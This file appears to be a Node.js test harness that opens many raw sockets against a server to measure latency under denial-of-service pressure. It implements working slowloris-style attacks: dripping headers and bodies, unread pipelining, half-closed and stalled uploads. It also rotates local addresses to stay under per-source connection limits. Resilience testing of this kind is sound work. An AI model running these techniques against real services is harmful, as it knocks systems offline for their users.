// Raw-socket attackers, each a process of its own so that it takes no time from the client whose latency is measured:
//   node attacker.mjs <kind> <url> <connections> <seconds>
// Prints a line `ready` once every connection was tried, goes on for so long, and prints a line of JSON: what became of them.
import { connect } from 'node:net';

const [, , kind, url, count, seconds, token] = process.argv;
const { hostname, port } = new URL(url);
/** Connections from one address: less than `limits.connectionsPerSource`. */
const perAddress = 500;
/** Connections opened every 20 ms: a machine of two cores runs the attacker, the adapter and its other clients. */
const perTick = 20;

const head = (method, path, more = '') =>
  `${method} ${path} HTTP/1.1\r\nHost: a\r\n${token ? `Authorization: Bearer ${token}\r\n` : ''}${more}\r\n`;
const upload = (length) =>
  head('POST', '/api/v1/session', `Content-Type: application/json\r\nContent-Length: ${length}\r\n`);
const document = head('GET', '/api/docs/swagger-ui-bundle.js');
const drip = (socket, millis) => setInterval(() => socket.write('x'), millis);

/** What each kind does with a connection once it is open. */
const kinds = {
  /** Sends 64 KiB of requests at once and reads no response. */
  'pipelining without reading': (socket) => {
    socket.write(head('GET', '/api/health-check').repeat(1700));
  },
  /** Takes every slot that a request without a token can take. */
  'asking for documents unread, and more behind them': (socket) => {
    socket.write(document.repeat(4) + head('GET', '/api/v1/user').repeat(300));
  },
  'saying nothing': () => undefined,
  'idle after a request': (socket) => {
    socket.resume();
    socket.write(head('GET', '/api/health-check'));
  },
  'dripping a head': (socket) => {
    socket.write('GET /api/health-check HTTP/1.1\r\nHost: a\r\nX-A: ');
    return drip(socket, 500);
  },
  'dripping a body': (socket) => {
    socket.write(`${upload(1000)}{`);
    return drip(socket, 500);
  },
  'sending all but the last byte of a large body': (socket) => {
    socket.write(upload(16_384) + ' '.repeat(16_383));
  },
  'sending all but the last byte of the largest body': (socket) => {
    socket.write(head('POST', '/api/v1/user/events', 'Content-Type: application/json\r\nContent-Length: 65536\r\n'));
    socket.write(' '.repeat(65_535));
  },
  'reading one byte every 29 s': (socket) => {
    socket.write(document);
    return setInterval(() => socket.resume(), 29_000);
  },
  'half-closed and not reading': (socket) => {
    socket.end(document);
  },
  'half-closed after half a request': (socket) => {
    socket.end(`${upload(1000)}{`);
  },
  'aborting uploads': (socket) => {
    socket.write(`${upload(10_000)}${' '.repeat(5000)}`, () => socket.resetAndDestroy());
  },
};

/** Kinds whose connections end at once begin again. */
const again = new Set(['aborting uploads', 'saying nothing', 'dripping a head', 'dripping a body']);
const begin = kinds[kind];
const reads = kind.startsWith('idle');
const result = { opened: 0, closed: 0, failed: 0 };
const sockets = new Set();
let isOver = false;

function open(index) {
  if (isOver) return;
  const localAddress = hostname === '127.0.0.1' ? `127.0.0.${2 + Math.floor(index / perAddress)}` : undefined;
  const onread = reads ? undefined : { buffer: Buffer.alloc(1), callback: () => false };
  const socket = connect({ host: hostname, port: Number(port), localAddress, allowHalfOpen: true, onread });
  let timer;
  sockets.add(socket);
  socket.on('connect', () => {
    result.opened++;
    timer = begin(socket);
    if (!reads && kind.startsWith('half')) socket.pause();
  });
  socket.on('end', () => socket.destroy());
  socket.on('error', () => result.failed++);
  socket.on('close', () => {
    clearInterval(timer);
    sockets.delete(socket);
    result.closed++;
    if (again.has(kind)) waiting.push(index);
  });
}

const waiting = Array.from({ length: Number(count) }, (_, index) => index);
let tried = 0;
setInterval(() => {
  for (const index of waiting.splice(0, perTick)) {
    open(index);
    if (++tried === Number(count)) attackOn();
  }
}, 20);

function attackOn() {
  process.stdout.write('ready\n');
  setTimeout(() => {
    isOver = true;
    process.stdout.write(`${JSON.stringify({ ...result, open: sockets.size })}\n`, () => process.exit());
  }, Number(seconds) * 1000);
}
